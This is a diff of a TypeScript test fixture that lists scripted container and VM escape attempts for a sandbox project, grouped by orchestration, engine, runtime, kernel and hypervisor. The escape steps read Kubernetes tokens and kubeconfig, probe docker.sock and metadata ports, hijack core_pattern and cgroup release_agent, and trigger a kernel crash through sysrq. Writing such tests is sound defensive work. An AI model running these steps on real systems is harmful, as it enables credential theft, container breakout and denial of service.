@@ -1,7 +1,8 @@
 /**
- * Ways out of a sandbox that the public escape benchmarks try (SECURITY.md, F and S), one scripted attempt each, for every
- * substrate. A script says `ESCAPED` and how when it got through, and `tried` at its end; what it could not say is looked at from
- * outside: a flag, sockets, a process, files and settings of the machine (test/fixtures/escape-host.ts).
+ * Ways out of a sandbox that the public escape benchmarks try (SECURITY.md, F and S; scripts/escape-classes.ts), for every substrate. An
+ * attempt is steps of test/fixtures/attack/escape.c, which needs no program of a template: each says `made` and its name once its call
+ * was answered, and `ESCAPED` where an answer is a way out. What it cannot say is looked at from outside: a flag, sockets, a process,
+ * files and settings of the machine (test/fixtures/escape-host.ts).
  */
 
 /** What the machine has that nobody inside may reach. */
@@ -19,216 +20,342 @@ export interface Prize {
   pid: number;
   /** Major and minor number of the disk the machine's files are on. */
   disk: readonly [number, number];
+  /** Files that are only to be read. */
+  readOnly: readonly string[];
+  /** Of whoever tries: a directory to write in. */
+  scratch: string;
 }
+
+export interface Step {
+  name: string;
+  /** Verb and words. */
+  call: readonly string[];
+  /** That it succeeds is no way out yet: what it shows may be one, or it prepares the next. */
+  shows?: true;
+}
+
+/**
+ * Where the same steps are let through, and that is noticed: on the machine, outside of any sandbox; there in a network of its own;
+ * there without its powers; behind a changed root with a descriptor left open; as root of a `vm`, which has powers over that; or
+ * nowhere, and why.
+ */
+export type Proof = 'machine' | 'network' | 'nobody' | 'leak' | 'vm' | { none: string };
 
 export interface Escape {
   id: string;
   /** The class of the benchmarks it stands for. */
   scenario: string;
-  script: (prize: Prize) => string;
-  /** May also be run outside of any sandbox, where it must get through: proof that it would be noticed. */
-  provable?: true;
+  steps: (prize: Prize) => readonly Step[];
+  proof: Proof;
 }
 
+/** Succeeds only where there is a way out. */
+const wins = (name: string, ...call: string[]): Step => ({ name, call });
+const shows = (name: string, ...call: string[]): Step => ({ name, call, shows: true });
 const up = '/..'.repeat(12);
-const connects = (family: string, address: string): string =>
-  `python3 -c "import socket; s = socket.socket(socket.${family}, socket.SOCK_STREAM); s.settimeout(3); s.connect(${address}); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('ESCAPED connected', s.recv(100))"`;
+const place = '/tmp/place';
+const helper = '/tmp/helper';
 
 export const escapes: readonly Escape[] = [
   // ---- orchestration
   {
     id: 'service-account',
     scenario: 'orchestration: a token or the environment of whoever started the sandbox',
-    provable: true,
-    script: () => `cat /var/run/secrets/kubernetes.io/serviceaccount/token /root/.kube/config && echo ESCAPED token
-env | grep -E "^(KUBERNETES_|AWS_|HOLDFAST_ESCAPE)" && echo ESCAPED environment`,
+    proof: 'machine',
+    steps: () => [
+      wins('token', 'show', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
+      wins('kubeconfig', 'show', '/root/.kube/config'),
+      wins('environment', 'environment', 'KUBERNETES_', 'AWS_', 'HOLDFAST_ESCAPE'),
+    ],
   },
   {
     id: 'control-sockets',
     scenario: 'orchestration and engine: docker.sock and its kind, by path and in the abstract name space',
-    provable: true,
-    script: ({
-      socketPath,
-      abstractName,
-    }) => `for path in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/crio/crio.sock /run/podman/podman.sock; do
-  [ ! -S $path ] || echo ESCAPED $path
-done
-${connects('AF_UNIX', `'${socketPath}'`)}
-${connects('AF_UNIX', `'\\0${abstractName}'`)}`,
+    proof: 'machine',
+    steps: ({ socketPath, abstractName }) => [
+      ...['docker.sock', 'containerd/containerd.sock', 'crio/crio.sock', 'podman/podman.sock'].flatMap((name) =>
+        ['/run', '/var/run'].map((directory) => wins(`${directory}/${name}`, 'unix', `${directory}/${name}`)),
+      ),
+      wins('unix socket', 'unix', socketPath),
+      wins('abstract socket', 'unix', `@${abstractName}`),
+    ],
   },
   {
     id: 'host-ports',
     scenario: 'orchestration: ports of the machine, its kubelet, engine and metadata service',
-    provable: true,
-    script: ({ addresses }) =>
+    proof: 'machine',
+    steps: ({ addresses }) =>
       [
-        ...addresses.map(({ host, port }) => `('${host}', ${port})`),
-        "('169.254.169.254', 80)",
-        "('192.168.65.7', 2375)",
-        "('127.0.0.1', 10250)",
-      ]
-        .map((address) => `timeout 10 ${connects('AF_INET', address)}`)
-        .join('\n'),
+        ...addresses.map(({ host, port }) => [host, String(port)] as const),
+        ['169.254.169.254', '80'] as const,
+        ['192.168.65.7', '2375'] as const,
+        ['127.0.0.1', '6443'] as const,
+        ['127.0.0.1', '10250'] as const,
+      ].map(([host, port]) => wins(`connected ${host}:${port}`, 'tcp', host, port)),
   },
   // ---- engine and runtime
   {
     id: 'host-mounts',
     scenario: 'engine: directories of the machine among the mounts, and ways around the root',
-    provable: true,
-    script: ({
-      flagPath,
-      marker,
-    }) => `for root in "" /host /mnt /rootfs /proc/1/root /proc/self/root /proc/self/cwd${up}; do
-  cat $root${flagPath}; (: > $root${marker})
-done
-for fd in /proc/self/fd/* /proc/1/fd/*; do cat $fd${up}${flagPath}; (: > $fd${up}${marker}); done
-[ -e ${flagPath} ] || find / -maxdepth 4 -name "$(basename ${flagPath})" -not -path "/proc/*/task/*" -exec cat {} +`,
+    proof: 'machine',
+    steps: ({ flagPath, marker }) => [
+      ...['', '/host', '/mnt', '/rootfs', '/proc/1/root', '/proc/self/root', `/proc/self/cwd${up}`].flatMap((root) => [
+        wins(`read at ${root || '/'}`, 'show', `${root}${flagPath}`),
+        wins(`made at ${root || '/'}`, 'create', `${root}${marker}`),
+      ]),
+      wins('descriptors', 'descriptors', flagPath, marker),
+      shows('find', 'find', flagPath.split('/').at(-1) ?? ''),
+    ],
   },
   {
     id: 'privileged-devices',
     scenario: 'engine: a privileged container: the disk of the machine, its memory, its console',
-    script: ({
-      disk: [major, minor],
-      flagPath,
-    }) => `mknod /tmp/disk b ${major} ${minor} && head -c 4096 /tmp/disk >/dev/null && echo ESCAPED disk
-mount -t ext4 /dev/vda /mnt && cat /mnt${flagPath}
-for device in /dev/mem /dev/kmem /dev/port /dev/kvm /dev/kmsg /dev/sda /dev/nvme0n1 /dev/loop-control /dev/fuse /dev/net/tun /dev/vhost-net /dev/vhost-vsock /dev/dri/card0; do
-  head -c 1 $device >/dev/null && echo ESCAPED $device
-done`,
+    proof: 'vm',
+    steps: ({ disk: [major, minor], flagPath }) => [
+      shows('place', 'dir', place),
+      wins('disk', 'disk', '/tmp/disk', String(major), String(minor)),
+      shows('mounted disk', 'mount', 'ext4', '/dev/vda', place),
+      shows('disk’s flag', 'show', `${place}${flagPath}`),
+      ...'mem kmem port kvm kmsg sda nvme0n1 loop-control fuse net/tun vhost-net vhost-vsock dri/card0'
+        .split(' ')
+        .map((name) => wins(`/dev/${name}`, 'show', `/dev/${name}`)),
+    ],
   },
   {
     id: 'capabilities',
     scenario: 'engine: CAP_SYS_ADMIN, CAP_SYS_PTRACE, CAP_DAC_READ_SEARCH, CAP_SYS_MODULE and any other',
-    script:
-      () => `grep -E "^Cap(Inh|Prm|Eff|Amb)" /proc/self/status | grep -v 0000000000000000 && echo ESCAPED capabilities
-grep "^NoNewPrivs:.1" /proc/self/status || echo ESCAPED no_new_privs`,
+    proof: 'machine',
+    steps: () => [
+      wins('capabilities', 'any-of-status', 'CapInh', 'CapPrm', 'CapEff', 'CapAmb'),
+      wins('no_new_privs', 'new-privileges'),
+    ],
+  },
+  {
+    id: 'file-handles',
+    scenario: 'engine: CAP_DAC_READ_SEARCH: files of the machine by their handles',
+    proof: 'vm',
+    steps: () => ['/', '/tmp', '/run/holdfast'].map((path) => wins(`handle below ${path}`, 'handle', path)),
   },
   {
     id: 'shared-processes',
-    scenario: 'engine: the process namespace of the machine, ptrace, and what stands in environments',
-    provable: true,
-    script: ({ pid }) => `(tr "\\0" "\\n" < /proc/${pid}/environ)
-cat /proc/${pid}/root/etc/hostname && echo ESCAPED root
-nsenter -t ${pid} -m -p true && echo ESCAPED nsenter
-for process in /proc/[0-9]*; do (tr "\\0" "\\n" < $process/environ) 2>/dev/null; done | grep -a ^FLAG=
-kill -0 ${pid} && echo ESCAPED signal`,
+    scenario: 'engine and kernel: the process namespace of the machine, ptrace, and what stands in environments',
+    proof: 'machine',
+    steps: ({ pid }) => [
+      shows('its environment', 'show', `/proc/${pid}/environ`),
+      shows('all environments', 'environments', 'FLAG='),
+      wins('its root', 'show', `/proc/${pid}/root/etc/hostname`),
+      wins('its mounts', 'enter', String(pid), 'mnt'),
+      wins('its processes', 'enter', String(pid), 'pid'),
+      wins('signal', 'signal', String(pid)),
+      wins('trace', 'trace', String(pid)),
+    ],
   },
   {
     id: 'core-pattern',
     scenario: 'engine: writable /proc: a core handler, a module loader, a hot-plug helper of the machine',
-    script: ({ marker }) => `printf '#!/bin/sh\\ntouch ${marker}\\n' > /tmp/helper; chmod +x /tmp/helper
-for place in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register /proc/sys/kernel/hotplug; do
-  (echo "|/tmp/helper" > $place) && echo ESCAPED $place
-done
-mount -t proc none /mnt && (echo "|/tmp/helper" > /mnt/sys/kernel/core_pattern) && echo ESCAPED mounted
-sh -c 'ulimit -c unlimited; kill -SEGV $$'; printf '\\377\\377\\377\\377' > /tmp/odd; chmod +x /tmp/odd; /tmp/odd`,
+    proof: 'vm',
+    steps: ({ marker }) => [
+      shows('helper', 'program', helper, `#!/bin/sh\ntouch ${marker}\n`),
+      ...[
+        '/proc/sys/kernel/core_pattern',
+        '/proc/sys/kernel/modprobe',
+        '/sys/kernel/uevent_helper',
+        '/proc/sys/fs/binfmt_misc/register',
+        '/proc/sys/kernel/hotplug',
+      ].map((path) => wins(path, 'write', path, `|${helper}\n`)),
+      shows('place', 'dir', place),
+      shows('another proc', 'mount', 'proc', 'none', place),
+      wins('mounted', 'write', `${place}/sys/kernel/core_pattern`, `|${helper}\n`),
+      shows('crash', 'crash'),
+      shows('odd program', 'program', '/tmp/odd', '\u00ff\u00ff'),
+      shows('odd program run', 'execute', '/tmp/odd'),
+    ],
   },
   {
     id: 'sysrq',
     scenario: 'engine: the kernel told to crash',
-    script: () => `for place in /proc/sysrq-trigger; do (echo c > $place) && echo ESCAPED $place; done`,
+    proof: 'vm',
+    steps: () => [wins('/proc/sysrq-trigger', 'write', '/proc/sysrq-trigger', 'c')],
   },
   {
     id: 'release-agent',
     scenario: 'engine and kernel: a control group with a release agent of the machine (CVE-2022-0492)',
-    script: ({ marker }) => `mkdir -p /tmp/group
-for kind in rdma memory cpu freezer misc; do
-  mount -t cgroup -o $kind none /tmp/group && echo /tmp/helper > /tmp/group/release_agent && echo ESCAPED v1 $kind
-done
-unshare -UrCm sh -c "mount -t cgroup -o rdma none /tmp/group && echo 'touch ${marker}' > /tmp/group/release_agent && echo ESCAPED namespaced"
-mount -t cgroup2 none /tmp/group && echo 0 > /tmp/group/cgroup.procs && echo ESCAPED v2
-find /sys/fs/cgroup -name release_agent -writable -exec sh -c 'echo /tmp/helper > "$1" && echo ESCAPED $1' _ {} \\;`,
+    proof: 'vm',
+    steps: ({ marker }) => [
+      shows('place', 'dir', place),
+      ...['rdma', 'memory', 'cpu', 'freezer', 'misc'].flatMap((kind) => [
+        wins(`v1 ${kind}`, 'mount', 'cgroup', 'none', place, kind),
+        wins(`agent of ${kind}`, 'write', `${place}/release_agent`, helper),
+      ]),
+      wins(
+        'namespaced',
+        ...['unshare', 'user,mount', 'mount', 'cgroup', 'none', place, 'rdma', 'and'],
+        ...['write', `${place}/release_agent`, `touch ${marker}`],
+      ),
+      shows('v2 group', 'mount', 'cgroup2', 'none', place),
+      wins('v2', 'write', `${place}/cgroup.procs`, '0'),
+      wins('agents', 'release-agents', '/sys/fs/cgroup'),
+    ],
   },
   {
     id: 'leaked-descriptors',
     scenario:
       'runtime: descriptors and directories left open by the runtime (CVE-2024-21626), its program rewritten (CVE-2019-5736)',
-    script: ({ flagPath, marker }) => `for fd in 3 4 5 6 7 8 9 10 16 17 18 19 20; do
-  (cd /proc/self/fd/$fd${up} 2>/dev/null && cat .${flagPath}; : > .${marker})
-  (cd /proc/1/fd/$fd 2>/dev/null && cat ../../../../..${flagPath})
-done
-for place in /proc/1/exe /proc/1/mem /run/holdfast/agent; do (printf x >> $place) && echo ESCAPED $place; done
-ln -sf /proc/self/fd/8${up}${flagPath} /tmp/link; cat /tmp/link`,
+    proof: 'leak',
+    steps: ({ flagPath, marker }) => [
+      wins('descriptors', 'descriptors', flagPath, marker),
+      ...['/proc/1/exe', '/proc/1/mem', '/run/holdfast/agent'].map((path) => wins(path, 'write', path, 'x')),
+      shows('link', 'symlink', `/proc/self/fd/8${up}${flagPath}`, '/tmp/link'),
+      wins('linked', 'show', '/tmp/link'),
+    ],
   },
   {
     id: 'masked-paths',
     scenario: 'runtime: what was covered in /proc uncovered or replaced (CVE-2025-31133, -52565, -52881)',
-    script: () => `umount /proc && echo ESCAPED umount
-mv /proc /gone && echo ESCAPED moved
-ln -sf /proc/sysrq-trigger /dev/console
-mount --bind /dev/null /proc/self/attr/exec && echo ESCAPED bind
-mount -t proc proc /tmp/group && cat /tmp/group/1/environ && echo ESCAPED proc`,
+    proof: 'vm',
+    steps: () => [
+      wins('umount', 'umount', '/proc'),
+      wins('moved', 'rename', '/proc', '/gone'),
+      shows('console', 'symlink', '/proc/sysrq-trigger', '/dev/console'),
+      wins('bind', 'bind', '/dev/null', '/proc/self/attr/exec'),
+      shows('place', 'dir', place),
+      shows('another proc', 'mount', 'proc', 'proc', place),
+      wins('proc', 'show', `${place}/1/environ`),
+    ],
   },
   {
     id: 'modules',
-    scenario: 'engine and kernel: a module of the guest in the kernel of the machine',
-    script: () => `printf '\\177ELF' > /tmp/module.ko
-for way in "insmod /tmp/module.ko" "modprobe dummy" "rmmod dummy"; do $way && echo ESCAPED $way; done
-ls /lib/modules/*/kernel >/dev/null && cat /proc/modules | head -1 && echo ESCAPED modules`,
+    scenario: 'engine and kernel: a module of the guest in the kernel of the machine (CAP_SYS_MODULE)',
+    proof: 'vm',
+    steps: () => [
+      wins('module of a file', 'module', '/tmp/module.ko'),
+      wins('module of memory', 'module-image', 'debug=1'),
+      wins('module removed', 'module-delete', 'dummy'),
+      shows('modules there', 'list', '/lib/modules/*/kernel'),
+      shows('modules loaded', 'show', '/proc/modules'),
+    ],
   },
   // ---- kernel
   {
     id: 'namespaces',
-    scenario:
-      'kernel: user namespaces as the door to file systems and packets (CVE-2022-0185, CVE-2023-0386, nf_tables)',
-    script: ({
-      flagPath,
-      marker,
-    }) => `unshare -Urm sh -c 'mount -t tmpfs none /mnt && mount --bind / /mnt && cat /mnt${flagPath}; : > /mnt${marker}'
-unshare -Urn sh -c 'nft list ruleset >/dev/null && echo ESCAPED nft'
-unshare -Urm sh -c 'mount -t overlay -o lowerdir=/etc,upperdir=/tmp/u,workdir=/tmp/w none /mnt && cat /mnt${flagPath}'
-chroot / true && echo ESCAPED chroot`,
+    scenario: 'kernel: user namespaces as the door to file systems (CVE-2022-0185, CVE-2023-0386)',
+    proof: 'machine',
+    steps: ({ flagPath, marker, scratch }) => {
+      const inner = `${scratch}/inner`;
+      const [upper, work] = [`${scratch}/upper`, `${scratch}/work`];
+      return [
+        shows('inner', 'dir', inner),
+        shows('upper', 'dir', upper),
+        shows('work', 'dir', work),
+        shows(
+          'bound',
+          ...['unshare', 'user,mount', 'mount', 'tmpfs', 'none', inner, 'and', 'bind', '/', inner, 'and'],
+          ...['show', `${inner}${flagPath}`, 'and', 'create', `${inner}${marker}`],
+        ),
+        shows(
+          'overlay',
+          ...[
+            'unshare',
+            'user,mount',
+            'mount',
+            'overlay',
+            'none',
+            inner,
+            `lowerdir=/etc,upperdir=${upper},workdir=${work}`,
+          ],
+          ...['and', 'show', `${inner}${flagPath}`],
+        ),
+        wins('chroot', 'chroot', '/'),
+      ];
+    },
+  },
+  {
+    id: 'packet-filters',
+    scenario: 'kernel: nf_tables, with the powers of a user namespace and without (CVE-2022-32250, CVE-2024-1086)',
+    proof: 'network',
+    steps: () => [
+      wins('nft table', 'nft', 'holdfast'),
+      wins('nft table of a namespace', 'unshare', 'user,net', 'nft', 'holdfast'),
+    ],
+  },
+  {
+    id: 'kernel-programs',
+    scenario: 'kernel: programs for its verifier (eBPF: CVE-2020-8835, CVE-2021-3490)',
+    proof: 'vm',
+    steps: () => [wins('bpf', 'bpf', 'GPL'), wins('bpf of a namespace', 'unshare', 'user', 'bpf', 'GPL')],
   },
   {
     id: 'packets',
     scenario: 'kernel: packet and raw sockets (CVE-2017-7308, CVE-2020-14386), and the hypervisor by vsock',
-    script: () => `python3 - <<'END'
-import socket
-for name, family, kind, protocol in (('packet', 17, 3, 0), ('raw', 2, 3, 255), ('netlink', 16, 3, 12), ('alg', 38, 5, 0), ('can', 29, 3, 1), ('xdp', 44, 3, 0)):
-    try:
-        socket.socket(family, kind, protocol)
-        print('ESCAPED', name)
-    except OSError as error:
-        print(name, error)
-for cid in (0, 1, 2):
-    for port in (22, 1024, 2024, 5001, 9999):
-        try:
-            s = socket.socket(40, 1, 0)
-            s.settimeout(1)
-            s.connect((cid, port))
-            print('ESCAPED vsock', cid, port)
-        except (OSError, TypeError) as error:
-            pass
-END`,
+    proof: 'machine',
+    steps: () => [
+      wins('packet', 'socket', '17', '3', '0'),
+      wins('raw', 'socket', '2', '3', '255'),
+      wins('netlink', 'socket', '16', '3', '12'),
+      wins('alg', 'socket', '38', '5', '0'),
+      wins('can', 'socket', '29', '3', '1'),
+      wins('xdp', 'socket', '44', '3', '0'),
+      ...['0', '1', '2'].flatMap((cid) =>
+        ['22', '1024', '2024', '5001', '9999'].map((port) => wins(`vsock ${cid} ${port}`, 'vsock', cid, port)),
+      ),
+    ],
   },
   {
     id: 'read-only-pages',
     scenario:
-      'kernel: files that are only to be read written to (Dirty COW, Dirty Pipe): their pages are the machine’s',
-    script: () => `for path in /usr/bin/true /usr/bin/sh /etc/passwd; do
-  (printf x >> $path) && case $path in /usr/*) [ -w /usr ] || echo ESCAPED $path;; esac
-done
-python3 - <<'END'
-import mmap, os
-for path in ('/usr/bin/true', '/run/holdfast/hostname'):
-    for flags in (os.O_RDWR, os.O_RDONLY):
-        try:
-            fd = os.open(path, flags)
-            page = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
-            page[0] = page[0]
-            if path.startswith('/run'): print('ESCAPED', path)
-        except (OSError, ValueError) as error:
-            print(path, error)
-END`,
+      'kernel: files that are only to be read written to, by their name and in memory: their pages are the machine’s',
+    proof: 'nobody',
+    steps: ({ readOnly }) =>
+      readOnly.flatMap((path) => [wins(path, 'overwrite', path), wins(`pages of ${path}`, 'map', path)]),
+  },
+  {
+    id: 'dirty-pages',
+    scenario: 'kernel: pages that are only to be read written to by a race and by a pipe (Dirty COW, Dirty Pipe)',
+    proof: { none: 'only a kernel with one of the two holes lets it through' },
+    steps: () => [wins('CVE-2016-5195', 'dirty-cow', '/tmp/cow'), wins('CVE-2022-0847', 'dirty-pipe', '/tmp/pipe')],
   },
   {
     id: 'hypervisor',
     scenario: 'hypervisor: shared folders, firmware tables, channels and ports of the machine around a guest',
-    script: ({
-      flagPath,
-    }) => `for kind in 9p virtiofs vboxsf hgfs; do mount -t $kind host /mnt && cat /mnt${flagPath} && echo ESCAPED $kind; done
-ls /sys/firmware/qemu_fw_cfg/by_name && echo ESCAPED fw_cfg
-for port in /dev/vport*; do [ ! -e $port ] || { (printf x > $port) && echo ESCAPED $port; }; done
-for place in /dev/ttyS0 /dev/hvc0 /dev/console; do [ ! -c $place ] || { (printf x > $place) && echo ESCAPED $place; }; done`,
+    proof: 'vm',
+    steps: ({ flagPath }) => [
+      shows('place', 'dir', place),
+      ...['9p', 'virtiofs', 'vboxsf', 'hgfs'].flatMap((kind) => [
+        wins(kind, 'mount', kind, 'host', place),
+        shows(`flag by ${kind}`, 'show', `${place}${flagPath}`),
+      ]),
+      wins('fw_cfg', 'list', '/sys/firmware/qemu_fw_cfg/by_name'),
+      wins('ports', 'write-each', '/dev/vport*', 'x'),
+      ...['/dev/ttyS0', '/dev/hvc0', '/dev/console'].map((path) => wins(path, 'write', path, 'x')),
+    ],
   },
 ];
+
+/** The verbs that no proof above lets through, as steps that get through on the machine. */
+export const remaining: Escape = {
+  id: 'remaining-verbs',
+  scenario: 'none: each verb tells success from failure',
+  proof: 'machine',
+  steps: ({ scratch, marker }) => [
+    wins('dir', 'dir', `${scratch}/group`),
+    wins('program', 'program', `${scratch}/group/release_agent`, `#!/bin/sh\n: > ${marker}\n`),
+    wins('execute', 'execute', `${scratch}/group/release_agent`),
+    wins('release-agents', 'release-agents', scratch),
+    wins('write-each', 'write-each', `${scratch}/g*/*`, 'x'),
+    wins('list', 'list', `${scratch}/g*`),
+    wins('rename', 'rename', `${scratch}/group`, `${scratch}/other`),
+    wins('symlink', 'symlink', scratch, `${scratch}/link`),
+    wins('crash', 'crash'),
+    wins('umount', ...['unshare', 'user,mount', 'mount', 'tmpfs', 'none', scratch, 'and', 'umount', scratch]),
+  ],
+};
+
+/** As arguments of the program. */
+export const argumentsOf = (steps: readonly Step[]): string[] =>
+  steps.map(({ name, call, shows: isShown }) => [isShown ? name : `!${name}`, ...call].join('\t'));
+
+/** The steps that did not come to their call. */
+export function notMade(steps: readonly Step[], said: string): string[] {
+  const made = new Set(said.split('\n').flatMap((line) => /^made (.*): [^:]*$/.exec(line)?.[1] ?? []));
+  return steps.map(({ name }) => name).filter((name) => !made.has(name));
+}
